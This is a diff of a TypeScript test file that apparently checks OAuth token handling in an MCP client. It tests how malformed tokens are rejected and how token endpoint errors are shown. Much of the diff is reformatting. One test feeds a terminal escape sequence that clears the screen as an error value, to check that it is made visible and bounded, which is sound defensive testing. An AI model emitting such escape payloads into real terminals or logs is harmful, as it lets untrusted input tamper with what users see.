+    await expect(signInWith({ refresh_token: 'rt\u0000x' })).rejects.toMatchObject({
+      message: expect.stringMatching(/returned a refresh token that contains a control character/),
+    });
     await expect(signInWith({ access_token: 'two words' })).rejects.toMatchObject({ message: expect.stringMatching(/contains a space or a tab/) });
-    await expect(signInWith({ access_token: 'x'.repeat(MAX_TOKEN_CHARS + 1) })).rejects.toMatchObject({ message: expect.stringMatching(new RegExp(`more than ${MAX_TOKEN_CHARS} characters`)) });
-    await expect(refreshWith({ access_token: 'at\n2' })).rejects.toMatchObject({ kind: 'other', message: expect.stringMatching(/^the token refresh returned an access token that contains a line break/) });
-    await expect(refreshWith({ refresh_token: 'caf\u00e9\u2028' })).rejects.toMatchObject({ message: expect.stringMatching(/refresh token that contains a character outside Latin-1/) });
+    await expect(signInWith({ access_token: 'x'.repeat(MAX_TOKEN_CHARS + 1) })).rejects.toMatchObject({
+      message: expect.stringMatching(new RegExp(`more than ${MAX_TOKEN_CHARS} characters`)),
+    });
+    await expect(refreshWith({ access_token: 'at\n2' })).rejects.toMatchObject({
+      kind: 'other',
+      message: expect.stringMatching(/^the token refresh returned an access token that contains a line break/),
+    });
+    await expect(refreshWith({ refresh_token: 'caf\u00e9\u2028' })).rejects.toMatchObject({
+      message: expect.stringMatching(/refresh token that contains a character outside Latin-1/),
+    });
     // What oauth4webapi refuses itself is reported as it says it.
-    await expect(refreshWith({ access_token: 42 })).rejects.toMatchObject({ kind: 'other', message: expect.stringMatching(/^the token refresh failed: .*access_token/) });
+    await expect(refreshWith({ access_token: 42 })).rejects.toMatchObject({
+      kind: 'other',
+      message: expect.stringMatching(/^the token refresh failed: .*access_token/),
+    });
   });
 
   it('shows the words of a token endpoint error with their control characters made visible, and bounded', async () => {
-    const { discovered } = await scriptedAs({ token: (res) => res.writeHead(400, { 'content-type': 'application/json' }).end(JSON.stringify({ error: 'invalid_request\u001b[2J', error_description: `a${'b'.repeat(300)}` })) });
-    const refused = await refreshTokens(flowDeps(() => ({})), discovered, { kind: 'registered', clientId: 'c' }, { accessToken: 'a', refreshToken: 'r', obtainedAt: 0 }, AbortSignal.timeout(5000)).then(() => new Error('refreshed'), (error: Error) => error);
+    const { discovered } = await scriptedAs({
+      token: (res) =>
+        res
+          .writeHead(400, { 'content-type': 'application/json' })
+          .end(JSON.stringify({ error: 'invalid_request\u001b[2J', error_description: `a${'b'.repeat(300)}` })),
+    });
+    const refused = await refreshTokens(
+      flowDeps(() => ({})),
+      discovered,
+      { kind: 'registered', clientId: 'c' },
+      { accessToken: 'a', refreshToken: 'r', obtainedAt: 0 },
+      AbortSignal.timeout(5000),
+    ).then(
+      () => new Error('refreshed'),
+      (error: Error) => error,
+    );
     expect(refused.message).toBe(`the token refresh refused: invalid_request\\x1b[2J (a${'b'.repeat(199)}…)`);
   });
 
@@ -1170,7 +1568,10 @@ describe('sign-in steps against a scripted authorization server', () => {
     });
     cleanups.push(() => credential.close());
     const challenge = `Bearer resource_metadata="${as.issuer}/.well-known/oauth-protected-resource/mcp"`;
-    await expect(credential.renew({ status: 401, wwwAuthenticate: challenge, sent: undefined }, AbortSignal.timeout(10_000))).rejects.toMatchObject({ code: 'AUTH_REQUIRED', message: expect.stringMatching(/type "dpop"/) });
+    await expect(credential.renew({ status: 401, wwwAuthenticate: challenge, sent: undefined }, AbortSignal.timeout(10_000))).rejects.toMatchObject({
+      code: 'AUTH_REQUIRED',
+      message: expect.stringMatching(/type "dpop"/),
+    });
     expect(credential.authorization()).toBeUndefined();
     expect(Object.values(credential.store.read().issuers).map((entry) => entry.tokens)).toEqual([undefined]);
     expect(readFileSync(credential.store.file, 'utf8')).not.toContain('dpop-bound-token-value');
@@ -1182,12 +1583,28 @@ describe('sign-in steps against a scripted authorization server', () => {
     const server = discovered.resource.href;
     const cached = { accessToken: 'old-access-token', refreshToken: 'old-refresh-token', obtainedAt: 0, expiresAt: 1 };
     const store = new TokenStore(home, discovered.resource);
-    store.write({ server, issuer: as.issuer, issuers: { [as.issuer]: { resource: server, client: { kind: 'registered', clientId: 'dcr-client' }, tokens: cached } } });
+    store.write({
+      server,
+      issuer: as.issuer,
+      issuers: { [as.issuer]: { resource: server, client: { kind: 'registered', clientId: 'dcr-client' }, tokens: cached } },
+    });
     const before = readFileSync(store.file, 'utf8');
-    const credential = new OAuthCredential({ url: discovered.resource, allowHttp: false, settings: parseOAuthSettings({}, {}, () => ''), logger: silent, env: { FENBS_MCP_HOME: home }, registerSecret: () => undefined, dispatcher: dispatcher(), writeStderr: () => undefined, openBrowser: () => undefined });
+    const credential = new OAuthCredential({
+      url: discovered.resource,
+      allowHttp: false,
+      settings: parseOAuthSettings({}, {}, () => ''),
+      logger: silent,
+      env: { FENBS_MCP_HOME: home },
+      registerSecret: () => undefined,
+      dispatcher: dispatcher(),
+      writeStderr: () => undefined,
+      openBrowser: () => undefined,
+    });
     cleanups.push(() => credential.close());
     const challenge = `Bearer resource_metadata="${as.issuer}/.well-known/oauth-protected-resource/mcp"`;
-    await expect(credential.renew({ status: 401, wwwAuthenticate: challenge, sent: credential.authorization() }, AbortSignal.timeout(10_000))).rejects.toMatchObject({
+    await expect(
+      credential.renew({ status: 401, wwwAuthenticate: challenge, sent: credential.authorization() }, AbortSignal.timeout(10_000)),
+    ).rejects.toMatchObject({
       code: 'AUTH_REQUIRED',
       message: 'the token refresh returned an access token that contains a line break, so it cannot be sent in an Authorization header; it is not kept',
       context: { hint: expect.stringMatching(/Bearer tokens of plain characters/) },
@@ -1197,12 +1614,21 @@ describe('sign-in steps against a scripted authorization server', () => {
   });
 
   it('refresh keeps the newest refresh token and names a refused grant', async () => {
-    const { discovered } = await scriptedAs({ token: (res) => res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify({ access_token: 'at-2', token_type: 'bearer', refresh_token: 'rt-2' })) });
+    const { discovered } = await scriptedAs({
+      token: (res) =>
+        res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify({ access_token: 'at-2', token_type: 'bearer', refresh_token: 'rt-2' })),
+    });
     const deps = flowDeps(() => ({}));
     const client = { kind: 'registered' as const, clientId: 'c' };
-    expect(await refreshTokens(deps, discovered, client, { accessToken: 'at-1', refreshToken: 'rt-1', obtainedAt: 0 }, AbortSignal.timeout(5000))).toMatchObject({ accessToken: 'at-2', refreshToken: 'rt-2' });
-    await expect(refreshTokens(deps, discovered, client, { accessToken: 'at-1', obtainedAt: 0 }, AbortSignal.timeout(5000))).rejects.toMatchObject({ kind: 'invalid-grant' });
+    expect(
+      await refreshTokens(deps, discovered, client, { accessToken: 'at-1', refreshToken: 'rt-1', obtainedAt: 0 }, AbortSignal.timeout(5000)),
+    ).toMatchObject({ accessToken: 'at-2', refreshToken: 'rt-2' });
+    await expect(refreshTokens(deps, discovered, client, { accessToken: 'at-1', obtainedAt: 0 }, AbortSignal.timeout(5000))).rejects.toMatchObject({
+      kind: 'invalid-grant',
+    });
     const revoked = await scriptedAs({ token: (res) => res.writeHead(400, { 'content-type': 'application/json' }).end('{"error":"invalid_grant"}') });
-    await expect(refreshTokens(deps, revoked.discovered, client, { accessToken: 'at-1', refreshToken: 'rt-1', obtainedAt: 0 }, AbortSignal.timeout(5000))).rejects.toMatchObject({ kind: 'invalid-grant', message: expect.stringMatching(/invalid_grant/) });
+    await expect(
+      refreshTokens(deps, revoked.discovered, client, { accessToken: 'at-1', refreshToken: 'rt-1', obtainedAt: 0 }, AbortSignal.timeout(5000)),
+    ).rejects.toMatchObject({ kind: 'invalid-grant', message: expect.stringMatching(/invalid_grant/) });
   });
 });
